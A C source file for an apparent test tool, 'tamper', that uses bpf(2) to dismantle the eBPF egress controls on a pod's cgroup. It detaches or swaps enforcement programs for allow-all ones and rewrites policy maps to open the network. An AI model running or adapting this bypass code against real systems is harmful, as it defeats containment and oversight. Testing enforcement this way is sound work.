/* Changes what holds its pod in the kernel, by bpf(2) alone:  tamper ACT CGROUP-ID ADDRESS PORT
 *
 * CGROUP-ID is the number of the pod's cgroup, ADDRESS (IPv4) and PORT are where it wants to get. Prints
 * {"act":"detach","changed":12,"error":"ok","command":0}: how many things it changed, and the last error, "ok" without
 * one, with the command of bpf(2) that it came of. Other
 * agents may be on the machine: only what the programs at this cgroup use is touched, and of that only what is of the
 * cgroup, of its slot, and of the device that leads there.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/bpf.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Newer than some headers. */
#define LINK_TYPE_CGROUP 3
#define LINK_TYPE_TCX 11
#define VALUE_BYTES 4096
#define MOST 4096

static uint64_t cgroup;
static struct sockaddr_in target;
static int changed, error, refused, asked;

static long bpf(int command, union bpf_attr *attr) {
    asked = command;
    return syscall(SYS_bpf, command, attr, sizeof *attr);
}

/* Notes what became of a change. */
static void note(long result) {
    if (result < 0) error = errno, refused = asked;
    else changed++;
}

/* The objects of one kind that there are, in the order of their numbers; calls `each` with a descriptor. */
static void all(int next, int open, void (*each)(int fd)) {
    union bpf_attr attr;
    for (uint32_t id = 0, seen = 0; seen < MOST; seen++) {
        memset(&attr, 0, sizeof attr);
        attr.start_id = id;
        if (bpf(next, &attr) < 0) {
            if (errno != ENOENT || !seen) error = errno;
            return;
        }
        id = attr.next_id;
        memset(&attr, 0, sizeof attr);
        attr.map_id = id;
        long fd = bpf(open, &attr);
        if (fd < 0) {
            if (errno != ENOENT) error = errno;
            continue;
        }
        each(fd);
        close(fd);
    }
}

static int info_of(int fd, void *info, uint32_t bytes) {
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    memset(info, 0, bytes);
    attr.info.bpf_fd = fd;
    attr.info.info_len = bytes;
    attr.info.info = (uint64_t)(unsigned long)info;
    return bpf(BPF_OBJ_GET_INFO_BY_FD, &attr);
}

static long element(int command, int map, const void *key, void *value) {
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.map_fd = map;
    attr.key = (uint64_t)(unsigned long)key;
    attr.value = (uint64_t)(unsigned long)value;
    return bpf(command, &attr);
}

static long lookup(int map, const void *key, void *value) {
    return element(BPF_MAP_LOOKUP_ELEM, map, key, value);
}

static long update(int map, const void *key, void *value) {
    return element(BPF_MAP_UPDATE_ELEM, map, key, value);
}

/* Kind, link, program, padding, then what is told of the kind: a cgroup and how, or a device. */
struct link { uint32_t type, id, program, padding, word[4]; };

static int is_ours(const struct link *link) {
    uint64_t place;
    memcpy(&place, link->word, sizeof place);
    return link->type == LINK_TYPE_CGROUP && place == cgroup;
}

/* The numbers of the maps of our agent. */
static uint32_t own_maps[256];
static int count_own;

static int is_own(uint32_t id) {
    for (int at = 0; at < count_own; at++)
        if (own_maps[at] == id) return 1;
    return 0;
}

static int maps_of(int program, uint32_t ids[64]) {
    struct bpf_prog_info info;
    union bpf_attr attr;
    memset(&info, 0, sizeof info);
    memset(&attr, 0, sizeof attr);
    info.nr_map_ids = 64;
    info.map_ids = (uint64_t)(unsigned long)ids;
    attr.info.bpf_fd = program;
    attr.info.info_len = sizeof info;
    attr.info.info = (uint64_t)(unsigned long)&info;
    if (bpf(BPF_OBJ_GET_INFO_BY_FD, &attr) < 0) return 0;
    return info.nr_map_ids < 64 ? info.nr_map_ids : 64;
}

static void keep_maps(int program) {
    uint32_t ids[64];
    int count = maps_of(program, ids);
    for (int at = 0; at < count; at++)
        if (!is_own(ids[at]) && count_own < 256) own_maps[count_own++] = ids[at];
}

static void keep_maps_of_link(int fd) {
    struct link info;
    union bpf_attr attr;
    if (info_of(fd, &info, sizeof info) < 0 || !is_ours(&info)) return;
    memset(&attr, 0, sizeof attr);
    attr.prog_id = info.program;
    int program = bpf(BPF_PROG_GET_FD_BY_ID, &attr);
    if (program < 0) return;
    keep_maps(program);
    close(program);
}

/* The program on the veth shares maps with those at the cgroup. */
static void keep_maps_of_relative(int program) {
    uint32_t ids[64];
    int count = maps_of(program, ids);
    for (int at = 0; at < count; at++)
        if (is_own(ids[at])) {
            keep_maps(program);
            return;
        }
}

/* A map of our agent by its name. */
static const char *wanted;
static int found;

static void keep_wanted(int fd) {
    struct bpf_map_info info;
    if (info_of(fd, &info, sizeof info) == 0 && !strcmp(info.name, wanted) && is_own(info.id) && found < 0)
        found = dup(fd);
}

static int map(const char *name) {
    wanted = name;
    found = -1;
    all(BPF_MAP_GET_NEXT_ID, BPF_MAP_GET_FD_BY_ID, keep_wanted);
    return found;
}

/* Our slot, as the egress hook was told (attach type 1). */
static uint32_t own_slot(void) {
    uint32_t slot = 0;
    if (lookup(map("SLOT"), &cgroup, &slot) < 0 && !error) error = errno;
    return slot;
}

/* The device that leads out of our slot. */
static uint32_t own_device(uint32_t slot) {
    uint32_t key = 0, next, value;
    int wires = map("WIRES");
    for (int seen = 0; seen < MOST && element(BPF_MAP_GET_NEXT_KEY, wires, seen ? &key : NULL, &next) == 0; seen++) {
        key = next;
        if (lookup(wires, &key, &value) == 0 && value == slot) return key;
    }
    return 0;
}

/* A program that lets everything pass. One for a cgroup uses the storage of ours, without which newer kernels (6.12.117,
 * 7.3) put it in no place of ours. */
static int open_program(uint32_t type, uint32_t attach_type, int verdict) {
    struct bpf_insn code[] = {
        {.code = BPF_LD | BPF_DW | BPF_IMM, .dst_reg = 1, .src_reg = BPF_PSEUDO_MAP_FD, .imm = map("SLOT")},
        {0},
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 2, .imm = 0},
        {.code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_get_local_storage},
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = verdict},
        {.code = BPF_JMP | BPF_EXIT},
    };
    const int begin = type == BPF_PROG_TYPE_SCHED_CLS ? 4 : 0;
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.prog_type = type;
    attr.expected_attach_type = attach_type;
    attr.insns = (uint64_t)(unsigned long)(code + begin);
    attr.insn_cnt = sizeof code / sizeof *code - begin;
    attr.license = (uint64_t)(unsigned long)"GPL";
    return bpf(BPF_PROG_LOAD, &attr);
}

static uint32_t type_for(uint32_t attach_type) {
    switch (attach_type) {
    case BPF_CGROUP_INET_INGRESS:
    case BPF_CGROUP_INET_EGRESS: return BPF_PROG_TYPE_CGROUP_SKB;
    case BPF_CGROUP_INET_SOCK_CREATE:
    case BPF_CGROUP_INET_SOCK_RELEASE: return BPF_PROG_TYPE_CGROUP_SOCK;
    default: return BPF_PROG_TYPE_CGROUP_SOCK_ADDR;
    }
}

static void detach(int link) {
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.link_detach.link_fd = link;
    note(bpf(BPF_LINK_DETACH, &attr));
}

static void exchange(int link, int program) {
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.link_update.link_fd = link;
    attr.link_update.new_prog_fd = program;
    note(program < 0 ? -1 : bpf(BPF_LINK_UPDATE, &attr));
    if (program >= 0) close(program);
}

static int replaces;
static uint32_t device;

static void attack_hook(int fd) {
    struct link info;
    if (info_of(fd, &info, sizeof info) < 0 || !is_ours(&info)) return;
    uint32_t attach_type = info.word[2];
    if (replaces) exchange(fd, open_program(type_for(attach_type), attach_type, 1));
    else detach(fd);
}

static void attack_wire(int fd) {
    struct link info;
    if (info_of(fd, &info, sizeof info) < 0 || info.type != LINK_TYPE_TCX) return;
    if (info.word[0] != device) return;
    /* TCX_NEXT */
    if (replaces) exchange(fd, open_program(BPF_PROG_TYPE_SCHED_CLS, 0, -1));
    else detach(fd);
}

static void links(void (*each)(int fd)) { all(BPF_LINK_GET_NEXT_ID, BPF_LINK_GET_FD_BY_ID, each); }

/* The mode of the pod: let everything pass, and report it. */
static void state(uint32_t slot) {
    uint32_t value[VALUE_BYTES / 4];
    int pods = map("PODS");
    long result = lookup(pods, &slot, value);
    value[1] |= 2;
    note(result < 0 ? result : update(pods, &slot, value));
}

/* The hooks are told of the slot that nobody has. */
static void storage(void) {
    uint32_t value = 255;
    note(update(map("SLOT"), &cgroup, &value));
}

static void word_of(const char *name, uint32_t key, uint64_t value) {
    note(update(map(name), &key, &value));
}

struct network_key { uint32_t bits, slot_bank, address[4]; };
struct network {
    uint32_t flags, count;
    struct { uint16_t port; uint8_t protocol, padding; uint32_t rule; } ports[16];
};

/* The whole of IPv4, at our port, in both of our banks. */
static void networks(uint32_t slot) {
    struct network_key key = {.bits = 32 + 96};
    struct network value;
    memset(&value, 0, sizeof value);
    key.address[2] = htonl(0xffff);
    value.count = 1;
    value.ports[0].port = ntohs(target.sin_port);
    value.ports[0].protocol = IPPROTO_TCP;
    int trie = map("NETWORKS");
    for (uint32_t bank = 0; bank < 2; bank++) {
        key.slot_bank = slot * 2 + bank;
        note(update(trie, &key, &value));
    }
}

/* The networks that we may use are at our port, too, or are none any more. */
static void own_networks(uint32_t slot, int are_gone) {
    struct network_key keys[MOST];
    struct network value;
    int trie = map("NETWORKS"), count = 0;
    while (count < MOST && element(BPF_MAP_GET_NEXT_KEY, trie, count ? &keys[count - 1] : NULL, &keys[count]) == 0)
        count++;
    for (int at = 0; at < count; at++) {
        if (keys[at].slot_bank / 2 != slot) continue;
        if (are_gone) {
            note(element(BPF_MAP_DELETE_ELEM, trie, &keys[at], NULL));
        } else if (lookup(trie, &keys[at], &value) == 0) {
            value.ports[0].port = ntohs(target.sin_port);
            note(update(trie, &keys[at], &value));
        }
    }
}

struct endpoint { uint32_t address[4]; uint16_t port; uint8_t protocol, padding; };

/* Puts what we want into a table of allow entries. */
static void allow_in(int map) {
    struct endpoint key = {.port = ntohs(target.sin_port), .protocol = IPPROTO_TCP};
    uint32_t value[2] = {UINT32_MAX, 0};
    key.address[2] = htonl(0xffff);
    key.address[3] = target.sin_addr.s_addr;
    note(update(map, &key, value));
}

/* What we may use is ours for ever. */
static void lengthen_in(int map) {
    struct endpoint key, next;
    uint32_t value[2];
    for (int seen = 0; seen < MOST && element(BPF_MAP_GET_NEXT_KEY, map, seen ? &key : NULL, &next) == 0; seen++) {
        key = next;
        if (lookup(map, &key, value) < 0) continue;
        value[0] = UINT32_MAX;
        note(update(map, &key, value));
    }
}

/* Calls `each` with our table of a kind. */
static void inner(const char *name, uint32_t slot, void (*each)(int fd)) {
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    if (lookup(map(name), &slot, &attr.map_id) < 0) {
        error = errno;
        return;
    }
    long fd = bpf(BPF_MAP_GET_FD_BY_ID, &attr);
    if (fd < 0) {
        error = errno;
        return;
    }
    each(fd);
    close(fd);
}

static struct bpf_map_info table;

static void describe(int fd) {
    if (info_of(fd, &table, sizeof table) == 0) return;
    error = errno;
    table.type = BPF_MAP_TYPE_UNSPEC;
}

/* Exchanges our table of a kind for a new one like it, in which there is what `fill` puts there. */
static void exchange_table(const char *name, uint32_t slot, void (*fill)(int map)) {
    union bpf_attr attr;
    table.type = BPF_MAP_TYPE_UNSPEC;
    inner(name, slot, describe);
    if (table.type == BPF_MAP_TYPE_UNSPEC) return;
    memset(&attr, 0, sizeof attr);
    attr.map_type = table.type;
    attr.key_size = table.key_size;
    attr.value_size = table.value_size;
    attr.max_entries = table.max_entries;
    attr.map_flags = table.map_flags;
    int own = bpf(BPF_MAP_CREATE, &attr);
    if (own < 0) {
        error = errno;
        return;
    }
    const int before = changed;
    if (fill) fill(own);
    changed = before;
    note(update(map(name), &slot, &own));
    close(own);
}

static void exchange_tables(uint32_t slot) {
    exchange_table("ALLOW", slot, allow_in);
    exchange_table("FLOWS", slot, NULL);
    exchange_table("PROCESSES", slot, NULL);
    exchange_table("CLIENTS", slot, NULL);
    exchange_table("WIRE_FLOWS", slot, NULL);
}

/* The device that leads out of our slot is of the one that nobody has, and one that is not there is of ours. */
static void devices(uint32_t slot) {
    uint32_t own = own_device(slot);
    word_of("WIRES", own, 255);
    word_of("WIRES", INT32_MAX, slot);
}

/* A table that nobody but the programs may write. */
static void write_zeros(int map) {
    char key[256] = {0}, value[VALUE_BYTES] = {0};
    note(update(map, key, value));
}

/* What the programs know of a socket of ours. */
static void tag(void) {
    char value[VALUE_BYTES] = {0};
    int socket_of_ours = socket(AF_INET, SOCK_STREAM, 0);
    note(update(map("TAGS"), &socket_of_ours, value));
}

static void act(const char *name) {
    links(keep_maps_of_link);
    all(BPF_PROG_GET_NEXT_ID, BPF_PROG_GET_FD_BY_ID, keep_maps_of_relative);
    uint32_t slot = strcmp(name, "detach") && strcmp(name, "replace") ? own_slot() : 0;
    if (!strcmp(name, "detach")) links(attack_hook);
    else if (!strcmp(name, "replace")) replaces = 1, links(attack_hook);
    else if (!slot) return;
    else if (!strcmp(name, "wire-detach")) device = own_device(slot), links(attack_wire);
    else if (!strcmp(name, "wire-replace")) replaces = 1, device = own_device(slot), links(attack_wire);
    else if (!strcmp(name, "state")) state(slot);
    else if (!strcmp(name, "storage")) storage();
    else if (!strcmp(name, "device")) devices(slot);
    else if (!strcmp(name, "cgroup")) word_of("CGROUPS", slot, 1);
    else if (!strcmp(name, "networks")) networks(slot);
    else if (!strcmp(name, "networks-wider")) own_networks(slot, 0);
    else if (!strcmp(name, "networks-gone")) own_networks(slot, 1);
    else if (!strcmp(name, "allow")) inner("ALLOW", slot, allow_in);
    else if (!strcmp(name, "allow-longer")) inner("ALLOW", slot, lengthen_in);
    else if (!strcmp(name, "table")) exchange_tables(slot);
    else if (!strcmp(name, "tag")) tag();
    else if (!strcmp(name, "flows")) inner("WIRE_FLOWS", slot, write_zeros);
    else error = EINVAL;
}

int main(int argc, char **argv) {
    if (argc != 5) return 2;
    struct rlimit unlimited = {RLIM_INFINITY, RLIM_INFINITY};
    /* Linux 5.10 counts maps against it. */
    setrlimit(RLIMIT_MEMLOCK, &unlimited);
    cgroup = strtoull(argv[2], NULL, 10);
    target.sin_family = AF_INET;
    target.sin_port = htons(atoi(argv[4]));
    if (inet_pton(AF_INET, argv[3], &target.sin_addr) != 1) return 2;
    act(argv[1]);
    printf("{\"act\":\"%s\",\"changed\":%d,\"error\":\"%s\",\"command\":%d}\n", argv[1], changed,
           error ? strerrorname_np(error) : "ok", refused);
    return 0;
}
